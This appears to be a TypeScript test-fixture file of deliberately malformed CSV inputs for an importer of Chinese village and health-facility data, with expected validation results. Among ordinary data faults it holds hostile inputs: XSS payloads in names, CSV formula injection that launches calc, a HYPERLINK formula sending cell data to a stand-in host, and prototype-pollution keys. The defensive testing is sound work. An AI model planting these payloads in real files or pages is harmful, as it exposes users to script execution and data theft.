import { type BadFile, good, header, lines } from './bad-file';

const [first, second, third] = good;
const row = (
  number: number,
  more: Partial<Record<'id' | 'name' | 'lng' | 'lat' | 'people', string>>,
) =>
  [
    more.id ?? `4509020010${String(number).padStart(2, '0')}`,
    more.name ?? `村${number}`,
    more.lng ?? '110.1513',
    more.lat ?? `22.${60 + number}17`,
    '乡村',
    more.people ?? '100',
  ].join(',');

const script = '<img src=x onerror=alert(1)>';

/** Lists whose cells are wrong, or meant to harm. */
export const cells: readonly BadFile[] = [
  {
    name: 'coordinates-nan-and-infinity.csv',
    what: 'NaN, inf, 1e999 and 0/0 where a script could not calculate, and zeros',
    make: () =>
      lines(
        header,
        row(1, { lng: 'NaN', lat: 'NaN' }),
        row(2, { lng: 'inf', lat: '-inf' }),
        row(3, { lng: '0', lat: '0' }),
        row(4, { lng: '0/0' }),
        row(5, { lng: '1e999' }),
        row(6, {}),
      ),
    expected: {
      rows: { accepted: 6, rejected: 0 },
      issues: { zeroPosition: 1, notANumber: 2 },
      located: 1,
    },
  },
  {
    name: 'coordinates-swapped.csv',
    what: 'longitude and latitude exchanged in every row',
    make: () => lines(header, ...good.map((each) => each.replace(/(110\.\d+),(22\.\d+)/, '$2,$1'))),
    expected: { rows: { accepted: 3, rejected: 0 }, located: 3 },
  },
  {
    name: 'coordinates-swapped-in-one-row.csv',
    what: 'longitude and latitude exchanged in one row of three',
    make: () => lines(header, first, second, third.replace(/(110\.\d+),(22\.\d+)/, '$2,$1')),
    expected: {
      rows: { accepted: 3, rejected: 0 },
      issues: { swappedCoordinates: 1 },
      located: 3,
    },
  },
  {
    name: 'coordinates-outside-china.csv',
    what: 'points in London, in the Gulf of Guinea and at 200 degrees east',
    make: () =>
      lines(
        header,
        row(1, { lng: '-0.12', lat: '51.5' }),
        row(2, { lng: '1.5', lat: '0.5' }),
        row(3, { lng: '200', lat: '22.6317' }),
        row(4, {}),
        row(5, {}),
        row(6, {}),
        row(7, {}),
      ),
    expected: {
      rows: { accepted: 7, rejected: 0 },
      issues: { outsideChina: 3 },
      located: 4,
    },
  },
  {
    name: 'coordinates-75-minutes.csv',
    what: 'degrees and minutes of which there are more than 60',
    make: () =>
      lines(
        header,
        row(1, { lng: '110°75′12″' }),
        row(2, { lng: '110°10′61″' }),
        row(3, { lng: '110°09′00″' }),
      ),
    expected: {
      rows: { accepted: 3, rejected: 0 },
      issues: { notANumber: 2 },
      located: 1,
    },
  },
  {
    name: 'coordinates-decimal-commas.csv',
    what: 'decimal commas, from an office program set to German',
    make: () =>
      lines('编码;名称;经度;纬度', '1;城东村;110,1501;22,6301', '2;城西村;110,1602;22,6402'),
    expected: {
      rows: { accepted: 2, rejected: 0 },
      issues: { notANumber: 4 },
      located: 0,
    },
  },
  {
    name: 'coordinates-projected-out-of-range.csv',
    what: 'metres of a grid, two of them with digits lost or doubled',
    make: () =>
      lines(
        '编码,名称,X坐标,Y坐标',
        '1,城东村,415301.5,2503120.2',
        '2,城西村,416301.5,2504120.2',
        '3,河口村,41,25',
        '4,大塘村,4153015415301,2503120.2',
      ),
    expected: {
      rows: { accepted: 4, rejected: 0 },
      issues: { outsideChina: 2 },
      located: 2,
    },
  },
  {
    name: 'coordinates-one-blank.csv',
    what: 'one of the two is blank',
    make: () => lines(header, row(1, { lng: '' }), row(2, { lat: '无' }), row(3, {})),
    expected: {
      rows: { accepted: 3, rejected: 0 },
      issues: { halfPosition: 2 },
      located: 1,
    },
  },
  {
    name: 'coordinates-are-addresses.csv',
    what: 'addresses in the columns of coordinates',
    make: () =>
      lines(header, row(1, { lng: '城关镇人民路 3 号' }), row(2, { lng: '见附件' }), row(3, {})),
    expected: {
      rows: { accepted: 3, rejected: 0 },
      issues: { notANumber: 2 },
      located: 1,
    },
  },
  {
    name: 'ids-duplicate.csv',
    what: 'an id occurs three times',
    make: () =>
      lines(
        header,
        first,
        first.replace('城东', '城南'),
        second,
        third,
        row(4, {}),
        row(5, {}),
        row(6, {}),
        row(7, {}),
        row(8, {}),
        first,
      ),
    expected: {
      rows: { accepted: 8, rejected: 2 },
      issues: { duplicateId: 2 },
      names: ['城东村'],
      located: 8,
    },
  },
  {
    name: 'ids-missing.csv',
    what: 'two ids are blank',
    make: () => lines(header, row(1, { id: '' }), row(2, { id: '  ' }), row(3, {})),
    expected: {
      rows: { accepted: 1, rejected: 2 },
      issues: { missingValue: 2 },
      located: 1,
    },
  },
  {
    name: 'ids-are-formulas.csv',
    what: 'ids that begin as formulas do',
    make: () =>
      lines(
        header,
        row(1, { id: "=cmd|' /C calc'!A0" }),
        row(2, { id: '@SUM(1)' }),
        row(3, { id: '-5' }),
        row(4, {}),
      ),
    expected: {
      rows: { accepted: 1, rejected: 3 },
      issues: { unsafeId: 3 },
      located: 1,
    },
  },
  {
    name: 'ids-scientific.csv',
    what: 'ids turned into 1.40902E+11, and one into a date',
    make: () =>
      lines(
        header,
        row(1, { id: '1.40902E+11' }),
        row(2, { id: '1.40902E+11' }),
        row(3, { id: '2025/3/1' }),
        row(4, {}),
      ),
    expected: {
      rows: { accepted: 1, rejected: 3 },
      issues: { mangledId: 2, dateInId: 1 },
      located: 1,
    },
  },
  {
    name: 'ids-and-headers-of-objects.csv',
    what: '__proto__, constructor and toString as headers, ids and names',
    make: () =>
      lines(
        '编码,名称,城乡,__proto__,constructor,hasOwnProperty',
        '__proto__,__proto__,乡村,x,y,z',
        'constructor,toString,乡村,x,y,z',
        'hasOwnProperty,valueOf,乡村,x,y,z',
      ),
    expected: {
      rows: { accepted: 3, rejected: 0 },
      names: ['__proto__', 'toString', 'valueOf'],
    },
  },
  {
    name: 'names-html.csv',
    what: 'HTML and scripts in names',
    make: () =>
      lines(
        header,
        row(1, { name: script }),
        row(2, { name: '"<script>alert(""村"")</script>"' }),
        row(3, { name: '村&amp;<b>粗</b>' }),
      ),
    expected: {
      rows: { accepted: 3, rejected: 0 },
      names: [script, '<script>alert("村")</script>', '村&amp;<b>粗</b>'],
      located: 3,
    },
  },
  {
    name: 'names-formulas.csv',
    what: 'formulas in names, that would run when the export is opened in Excel',
    make: () =>
      lines(
        header,
        row(1, { name: '"=HYPERLINK(""http://x.example/?a="" & A1,""点我"")"' }),
        row(2, { name: '@SUM(1+1)' }),
        row(3, { name: '+8613800000000' }),
        row(4, { name: "-2+3+cmd|' /C calc'!A0" }),
      ),
    expected: {
      rows: { accepted: 4, rejected: 0 },
      names: [
        '=HYPERLINK("http://x.example/?a=" & A1,"点我")',
        '@SUM(1+1)',
        "-2+3+cmd|' /C calc'!A0",
      ],
      located: 4,
    },
  },
  {
    name: 'names-invisible-characters.csv',
    what: 'a right-to-left override, zero-width blanks and a no-break blank in names',
    make: () =>
      lines(
        header,
        row(1, { name: '城\u202e村东' }),
        row(2, { name: '城\u200b西\u200d村' }),
        row(3, { name: '\ufeff河口村' }),
      ),
    expected: {
      rows: { accepted: 3, rejected: 0 },
      names: ['城\u202e村东', '城西村', '河口村'],
      located: 3,
    },
  },
  {
    name: 'names-of-100000-characters.csv',
    what: 'a whole document in the cell of a name',
    make: () => lines(header, row(1, { name: '村'.repeat(100_000) }), row(2, {})),
    expected: { rows: { accepted: 2, rejected: 0 }, names: ['村'.repeat(100_000)], located: 2 },
  },
  {
    name: 'names-emoji.csv',
    what: 'emoji, rare characters beyond the basic plane, half a surrogate pair escaped',
    make: () =>
      lines(
        header,
        row(1, { name: '🏥村' }),
        row(2, { name: '𠮷家村' }),
        row(3, { name: '👨‍👩‍👧村' }),
      ),
    expected: {
      rows: { accepted: 3, rejected: 0 },
      names: ['🏥村', '𠮷家村', '👨‍👩‍👧村'],
      located: 3,
    },
  },
  {
    name: 'names-missing.csv',
    what: 'names that are blank, or 无',
    make: () => lines(header, row(1, { name: '' }), row(2, { name: '无' }), row(3, {})),
    expected: { rows: { accepted: 1, rejected: 2 }, issues: { missingValue: 2 }, located: 1 },
  },
  {
    name: 'population-absurd.csv',
    what: 'people below zero, beyond the world, in words, and of a thousand digits',
    make: () =>
      lines(
        header,
        row(1, { people: '-812' }),
        row(2, { people: '99999999999' }),
        row(3, { people: '许多' }),
        row(4, { people: '9'.repeat(1_000) }),
        row(5, { people: '1.2万' }),
        row(6, { people: '"8,12"' }),
        ...[7, 8, 9, 10, 11, 12].map((number) => row(number, {})),
      ),
    expected: {
      rows: { accepted: 12, rejected: 0 },
      issues: { notACount: 5, approximateCount: 1 },
      located: 12,
    },
  },
  {
    name: 'kinds-unknown.csv',
    what: 'kinds and states of facilities that no word tells',
    make: () =>
      lines(
        '编码,机构名称,类别,状态,经度,纬度,床位数',
        'F1,一站,驿站,在建中吗,110.1513,22.6317,30',
        'F2,二站,卫生院,现状,110.1613,22.6417,-3',
        'F3,三站,,,110.1713,22.6517,好多',
        'F4,四站,急救站,现状,110.1813,22.6617,5',
        'F5,五站,卫生院,现状,110.1913,22.6717,20',
      ),
    expected: {
      rows: { accepted: 5, rejected: 0 },
      issues: { kindNotRecognised: 2, unknownStatus: 1, notACount: 2 },
      located: 5,
    },
  },
  {
    name: 'settings-unknown.csv',
    what: 'neither urban nor rural, and codes that the statistics bureau does not have',
    make: () =>
      lines(
        '编码,名称,城乡,城乡分类代码',
        'A1,城东村,山区,',
        'A2,城西村,,999',
        'A3,河口村,乡村,220',
        'A4,大塘村,乡村,220',
      ),
    expected: {
      rows: { accepted: 4, rejected: 0 },
      issues: { unknownSetting: 1, unknownUrbanRuralCode: 1 },
    },
  },
];
